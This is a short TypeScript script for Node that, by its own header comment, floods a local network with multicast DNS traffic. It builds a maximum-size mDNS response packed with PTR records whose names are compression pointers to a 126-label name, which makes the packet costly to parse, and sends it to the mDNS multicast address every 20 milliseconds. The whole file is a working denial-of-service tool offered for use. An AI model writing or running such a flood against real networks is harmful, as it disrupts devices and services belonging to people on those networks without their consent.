/** Floods the LAN with multicast DNS that is costly to take apart: names that all point at one of 126 labels. */
import dgram from 'node:dgram'

const [, , from = ''] = process.argv
const [BYTES, EVERY_MS] = [65_507, 20]

function costly(): Buffer {
  const out = Buffer.alloc(BYTES)
  out.writeUInt16BE(0x8400, 2)
  let at = 12
  for (let i = 0; i < 126; i++) at = out.writeUInt8(97, out.writeUInt8(1, at))
  // The end of the name of the first record; then each is a PTR, and name and data are pointers to that name.
  at = out.writeUInt8(0, at)
  let records = 0
  for (; at + 14 <= BYTES; records++) {
    if (records > 0) at = out.writeUInt16BE(0xc00c, at)
    at = out.writeUInt16BE(1, out.writeUInt16BE(12, at)) + 4
    at = out.writeUInt16BE(0xc00c, out.writeUInt16BE(2, at))
  }
  out.writeUInt16BE(records, 6)
  return out.subarray(0, at)
}

const socket = dgram.createSocket('udp4')
socket.bind(0, from, () => {
  socket.setMulticastInterface(from)
  const datagram = costly()
  setInterval(() => socket.send(datagram, 5_353, '224.0.0.251'), EVERY_MS)
  console.log('floods')
})
